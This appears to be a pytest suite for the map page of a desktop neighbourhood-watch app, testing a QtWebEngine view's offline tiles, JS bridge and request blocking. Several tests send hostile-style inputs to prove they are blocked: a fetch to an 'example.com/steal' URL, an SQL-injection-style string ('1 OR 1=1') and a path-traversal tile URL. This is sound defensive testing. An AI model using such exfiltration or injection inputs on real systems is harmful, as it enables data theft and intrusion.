"""The Map page in a real QtWebEngine view: built off the GUI thread, served from a file, only
tile requests leave the view, and the page talks to the app through the narrow bridge."""

from __future__ import annotations

import datetime as dt
import json
from typing import Any

import pytest
from PySide6.QtCore import QDate, Qt
from PySide6.QtWidgets import QDialog, QPushButton
from pytestqt.qtbot import QtBot

from tests.sql import DEMO_TIME_ZONE
from tests.ui.conftest import MakeWindow, show_all_groups
from tests.ui.test_main_window import click_nav
from watchdesk.db.engine import Database
from watchdesk.services.observation_search import ObservationFilter, observation_ids
from watchdesk.ui.main_window import MainWindow
from watchdesk.ui.pages.map import MapPage
from watchdesk.ui.widgets.map_view import MapView

LOAD_MS = 30_000


def map_page(qtbot: QtBot, window: MainWindow) -> MapPage:
    click_nav(qtbot, window, "Map")
    page = window.pages.currentWidget()
    assert isinstance(page, MapPage)
    assert page.view is not None
    return page


def loaded(qtbot: QtBot, page: MapPage) -> None:
    assert page.view is not None
    view = page.view
    qtbot.waitUntil(lambda: view.last_load is not None, timeout=LOAD_MS)
    assert view.last_load is True


def run_js(qtbot: QtBot, page: MapPage, script: str) -> Any:
    assert page.view is not None
    return view_js(qtbot, page.view, script)


def view_js(qtbot: QtBot, view: MapView, script: str) -> Any:
    results: list[Any] = []
    view.page().runJavaScript(script, 0, results.append)
    qtbot.waitUntil(lambda: bool(results), timeout=LOAD_MS)
    return results[0]


def click_map(qtbot: QtBot, view: MapView, latitude: float, longitude: float) -> None:
    """One click on a picking map at a point, as Leaflet reports it, once the bridge is up."""
    qtbot.waitUntil(lambda: view.last_load is True, timeout=LOAD_MS)
    qtbot.waitUntil(lambda: view_js(qtbot, view, "!!window.watchdesk") is True, timeout=LOAD_MS)
    find_map = "Object.values(window).find(function (v) { return v instanceof L.Map; })"
    fired = view_js(
        qtbot,
        view,
        f"(function () {{ var m = {find_map};"
        f" m.fire('click', {{latlng: L.latLng({latitude}, {longitude})}}); return true; }})()",
    )
    assert fired is True


@pytest.fixture
def shown(qtbot: QtBot, make_window: MakeWindow, demo_db: Database) -> MapPage:
    from watchdesk.ui.context import DEFAULT_TILE_REFERER, DEFAULT_TILE_URL
    from watchdesk.ui.widgets.map_view import map_profile

    # Views share their profile and its request log: start each test with an empty log.
    interceptor = map_profile(DEFAULT_TILE_URL, DEFAULT_TILE_REFERER)[1]
    interceptor.blocked.clear()
    interceptor.tiles_requested = 0
    page = map_page(qtbot, make_window(demo_db))
    loaded(qtbot, page)
    # The bridge connects once the page's scripts have run.
    qtbot.waitUntil(lambda: run_js(qtbot, page, "!!window.watchdesk") is True, timeout=LOAD_MS)
    return page


def test_the_map_shows_the_filtered_observations_offline(
    qtbot: QtBot, shown: MapPage, demo_db: Database
) -> None:
    page = shown
    first, last = page.first.date().toPython(), page.last.date().toPython()
    assert isinstance(first, dt.date) and last - first == dt.timedelta(days=90)
    with demo_db.read() as session:
        ids = observation_ids(session, 1, ObservationFilter(first=first, last=last))
        from sqlalchemy import text

        located = set(
            session.execute(text("SELECT id FROM observation WHERE latitude IS NOT NULL")).scalars()
        )
    expected = len(set(ids) & located)
    assert expected > 0 and len(page.shown_ids) == expected
    assert page.status.text() == f"{expected:,} observations on the map"
    # Leaflet, clusters and the block outlines all run with no CDN.
    assert run_js(qtbot, page, "typeof L.markerClusterGroup") == "function"
    assert run_js(qtbot, page, "document.querySelectorAll('.leaflet-interactive').length") > 0
    remote = 'document.querySelectorAll(\'script[src^="http"], link[href^="http"]\').length'
    assert run_js(qtbot, page, remote) == 0
    assert page.view is not None and page.view.interceptor.blocked == []

    # A narrower range builds a new map.
    page.first.setDate(QDate(2026, 11, 14))
    page.build()
    loaded(qtbot, page)
    assert 0 < len(page.shown_ids) < expected


# Qt's web channel refuses a string for an int parameter itself, and says so.
@pytest.mark.qt_log_ignore("Could not convert argument")
def test_clicking_a_marker_opens_that_observation_through_the_bridge(
    qtbot: QtBot, shown: MapPage
) -> None:
    page = shown
    chosen = max(page.shown_ids)
    run_js(qtbot, page, f"window.watchdesk.openObservation({chosen}); true")
    qtbot.waitUntil(lambda: "Police" in page.detail.toPlainText(), timeout=LOAD_MS)
    before = page.detail.toPlainText()
    # Ids not on the map, and anything that is not an id, are ignored.
    run_js(qtbot, page, "window.watchdesk.openObservation(987654321); true")
    run_js(qtbot, page, "window.watchdesk.openObservation('1 OR 1=1'); true")
    assert page.detail.toPlainText() == before


def test_only_tile_requests_leave_the_view(qtbot: QtBot, shown: MapPage) -> None:
    page = shown
    assert page.view is not None
    interceptor = page.view.interceptor
    run_js(qtbot, page, "fetch('https://example.com/steal?x=1').catch(function(){}); true")
    run_js(qtbot, page, "new Image().src = 'http://example.org/pixel.png'; true")
    qtbot.waitUntil(lambda: len(interceptor.blocked) >= 2, timeout=LOAD_MS)
    assert any("example.com/steal" in url for url in interceptor.blocked)
    assert any("example.org/pixel" in url for url in interceptor.blocked)
    assert interceptor.tiles_requested > 0  # tiles are asked for (and fail: no network here)
    # No new windows, and the view stays on the map.
    run_js(qtbot, page, "window.open('https://example.com/'); true")
    run_js(qtbot, page, "location.href = 'https://example.com/'; true")
    qtbot.wait(300)
    assert page.view.url() == page.view.map_page.map_url


def test_the_bridge_checks_picked_points(qtbot: QtBot, shown: MapPage) -> None:
    assert shown.view is not None
    bridge = shown.view.bridge
    picked: list[tuple[float, float]] = []
    bridge.point_picked.connect(lambda lat, lon: picked.append((lat, lon)))
    bridge.pickPoint(45.5, -122.6)
    bridge.pickPoint(95.0, 0.0)
    bridge.pickPoint(float("nan"), 0.0)
    assert picked == [(45.5, -122.6)]


def test_a_click_on_the_pick_map_fills_in_the_form_point(
    qtbot: QtBot, make_window: MakeWindow, demo_db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    from PySide6.QtWidgets import QLineEdit, QMessageBox, QWidget

    from tests.ui.test_members_page import in_dialog
    from tests.ui.test_observations_page import observations_page
    from watchdesk.ui.dialogs import base, map_pick

    window = make_window(demo_db)
    page = observations_page(qtbot, window)
    clicked: list[tuple[float, float] | None] = []

    def click_on_map(dialog: map_pick.PickPointDialog) -> int:
        click_map(qtbot, dialog.view, 45.5151, -122.6352)
        qtbot.waitUntil(lambda: dialog.point is not None, timeout=LOAD_MS)
        clicked.append(dialog.point)
        assert dialog.ok.isEnabled() and "45.515100" in dialog.chosen.text()
        return 1

    monkeypatch.setattr(map_pick.PickPointDialog, "exec", click_on_map)
    seen: dict[str, str] = {}
    # The picked point is a change: closing the form asks, and the answer here is Discard.
    asked: list[QWidget] = []

    def discard(parent: QWidget) -> QMessageBox.StandardButton:
        asked.append(parent)
        return QMessageBox.StandardButton.Discard

    monkeypatch.setattr(base, "ask_unsaved", discard)

    def pick(dialog: QDialog) -> None:
        qtbot.mouseClick(dialog.findChild(QPushButton, "pick_on_map"), Qt.MouseButton.LeftButton)
        seen["lat"] = dialog.findChild(QLineEdit, "latitude").text()
        seen["lon"] = dialog.findChild(QLineEdit, "longitude").text()
        dialog.reject()
        assert asked == [dialog] and not dialog.isVisible()

    failures = in_dialog(qtbot, pick)
    qtbot.mouseClick(page.record_button, Qt.MouseButton.LeftButton)
    assert failures == []
    assert clicked and seen == {"lat": "45.515100", "lon": "-122.635200"}


def test_all_groups_puts_every_group_on_the_map(
    qtbot: QtBot, make_window: MakeWindow, liaison_db: Database
) -> None:
    """A liaison's file: "All groups" in the group bar maps both groups' observations; the
    one-group pages say which group they show."""
    import sqlite3

    demo_db = liaison_db
    window = make_window(demo_db)
    page = map_page(qtbot, window)
    loaded(qtbot, page)
    one_group = set(page.shown_ids)
    everything = show_all_groups(window)
    assert everything == window.group_choice.count() - 1
    first, last = page.current_filter().first, page.current_filter().last
    assert first is not None and last is not None
    with sqlite3.connect(demo_db.path) as connection:
        # Both demo groups are in Portland: local dates are the same UTC bounds for each.
        start = dt.datetime.combine(first, dt.time(), tzinfo=DEMO_TIME_ZONE).astimezone(dt.UTC)
        end = dt.datetime.combine(last + dt.timedelta(days=1), dt.time(), tzinfo=DEMO_TIME_ZONE)
        rows = connection.execute(
            "SELECT id, group_id FROM observation WHERE latitude IS NOT NULL "
            "AND occurred_at >= ? AND occurred_at < ?",
            (
                start.strftime("%Y-%m-%d %H:%M:%S"),
                end.astimezone(dt.UTC).strftime("%Y-%m-%d %H:%M:%S"),
            ),
        ).fetchall()
    assert {group for _, group in rows} == {1, 2}
    assert set(page.shown_ids) == {i for i, _ in rows} > one_group
    assert page.status.text().endswith("on the map (all groups)")
    assert window.group_note.text() == ""
    click_nav(qtbot, window, "Members")
    assert "This page shows one group: Hawthorne Heights" in window.group_note.text()


def test_failing_tiles_are_said_above_the_map_with_what_is_shown_instead(
    qtbot: QtBot, shown: MapPage, tmp_path: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from PySide6.QtWidgets import QFileDialog, QToolButton

    page = shown
    settings = page.context.settings
    assert settings is not None
    streets = tmp_path / "centrelines.geojson"
    streets.write_text(
        '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": '
        '{"NAME": "SE Foster Rd"}, "geometry": {"type": "LineString", "coordinates": '
        "[[-122.65, 45.516], [-122.63, 45.516]]}}]}",
        encoding="utf-8",
    )
    # Chosen under "Offline map": the map is built again with it.
    monkeypatch.setattr(QFileDialog, "getOpenFileName", lambda *_a: (str(streets), ""))
    menu = page.findChild(QToolButton, "map_offline_menu")
    assert menu is not None
    next(a for a in menu.actions() if a.objectName() == "map_choose_streets").trigger()
    assert settings.streets_geojson() == streets
    loaded(qtbot, page)
    qtbot.waitUntil(lambda: run_js(qtbot, page, "!!window.watchdesk") is True, timeout=LOAD_MS)
    # There is no network here: the tiles fail by themselves; the hook makes it certain.
    run_js(qtbot, page, "window.watchdeskTilesOffline(); true")
    qtbot.waitUntil(page.offline_note.isVisible, timeout=LOAD_MS)
    assert page.offline_note.text() == (
        "Map tiles could not be loaded: this computer seems to be offline. "
        "Showing the streets from centrelines.geojson instead."
    )
    assert run_js(qtbot, page, "document.querySelector('.wd-offline').textContent") == (
        "Map tiles could not be loaded (offline?). Showing the streets file."
    )
    # The legend folds away and comes back.
    fold = "document.querySelector('.wd-legend-toggle').click(); "
    hidden = "getComputedStyle(document.querySelector('.wd-legend-entries')).display"
    assert run_js(qtbot, page, fold + hidden) == "none"
    assert run_js(qtbot, page, fold + hidden) == "block"


def test_the_view_lets_through_only_tiles_of_the_chosen_folder(qtbot: QtBot, tmp_path: Any) -> None:
    from PySide6.QtCore import QUrl

    from watchdesk.ui.widgets.map_view import TileOnlyInterceptor

    interceptor = TileOnlyInterceptor("https://tile.openstreetmap.org/{z}/{x}/{y}.png", "x")
    tiles = tmp_path / "tiles"
    interceptor.tile_folders.add(tiles.resolve())
    tile = QUrl.fromLocalFile(str(tiles / "17" / "1" / "2.png"))
    assert interceptor.allows(tile, main_frame=False)
    assert not interceptor.allows(QUrl.fromLocalFile(str(tmp_path / "secret.png")), False)
    assert not interceptor.allows(QUrl.fromLocalFile(str(tiles / "notes.txt")), False)
    assert not interceptor.allows(QUrl.fromLocalFile(str(tiles / ".." / "x.png")), False)
    assert interceptor.allows(QUrl.fromLocalFile(str(tmp_path / "map.html")))  # the page


def test_show_on_map_switches_to_the_map_centred_on_the_observation(
    qtbot: QtBot,
    make_window: MakeWindow,
    demo_db: Database,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from watchdesk.core.vocabulary import OBSERVATION_CATEGORIES
    from watchdesk.ui.pages.observations import ObservationsPage

    asked: list[tuple[float, float, int]] = []
    monkeypatch.setattr(MapView, "centre_on", lambda _view, *where: asked.append(where))
    window = make_window(demo_db)
    click_nav(qtbot, window, "Observations")
    observations = window.pages.currentWidget()
    assert isinstance(observations, ObservationsPage)
    qtbot.waitUntil(lambda: observations.model.rowCount() > 0, timeout=LOAD_MS)
    observations.table.selectRow(0)
    chosen = observations.selected_id()
    assert chosen is not None and observations.map_button.isEnabled()
    with demo_db.read() as session:
        from watchdesk.services.observation_search import observation_lines

        line = observation_lines(session, [chosen])[chosen]
    qtbot.mouseClick(observations.map_button, Qt.MouseButton.LeftButton)
    page = window.pages.currentWidget()
    assert isinstance(page, MapPage) and window.current_page_name() == "Map"
    assert asked == [(line.latitude, line.longitude, chosen)]
    # Its details beside the map, as a click on its marker shows them.
    assert page.side.currentWidget() is page.detail
    assert OBSERVATION_CATEGORIES[line.category] in page.detail.toPlainText()


def test_offline_the_map_shows_the_tiles_of_the_folder_on_this_computer(
    qtbot: QtBot, shown: MapPage, tmp_path: Any
) -> None:
    import math

    from PIL import Image

    page = shown
    settings = page.context.settings
    assert settings is not None and page.view is not None
    # Tiles for what the map shows now, written where the settings say.
    view = "(function () { var m = Object.values(window).find(function (v) {"
    view += " return v instanceof L.Map; }); var b = m.getBounds();"
    view += " return JSON.stringify([m.getZoom(), b.getNorth(), b.getWest(), b.getSouth(),"
    view += " b.getEast()]); })()"
    zoom, north, west, south, east = json.loads(run_js(qtbot, page, view))

    def tile(lat: float, lon: float) -> tuple[int, int]:
        n = 2**zoom
        y = (1 - math.asinh(math.tan(math.radians(lat))) / math.pi) / 2 * n
        return int((lon + 180) / 360 * n), int(y)

    folder = tmp_path / "tiles"
    (left, top), (right, bottom) = tile(north, west), tile(south, east)
    for x in range(left, right + 1):
        for y in range(top, bottom + 1):
            path = folder / str(zoom) / str(x) / f"{y}.png"
            path.parent.mkdir(parents=True, exist_ok=True)
            Image.new("RGB", (256, 256), (210, 230, 210)).save(path)
    settings.set_tile_folder(folder)
    page.build()
    loaded(qtbot, page)
    run_js(qtbot, page, "window.watchdeskTilesOffline(); true")
    local = "document.querySelectorAll('img.leaflet-tile-loaded[src^=\"file:\"]').length"
    qtbot.waitUntil(lambda: run_js(qtbot, page, local) > 0, timeout=LOAD_MS)
    assert page.view.interceptor.blocked == []
    # Any other file the page asks for stays blocked.
    run_js(qtbot, page, f"new Image().src = {json.dumps((tmp_path / 'x.png').as_uri())}; true")
    qtbot.waitUntil(lambda: bool(page.view and page.view.interceptor.blocked), timeout=LOAD_MS)
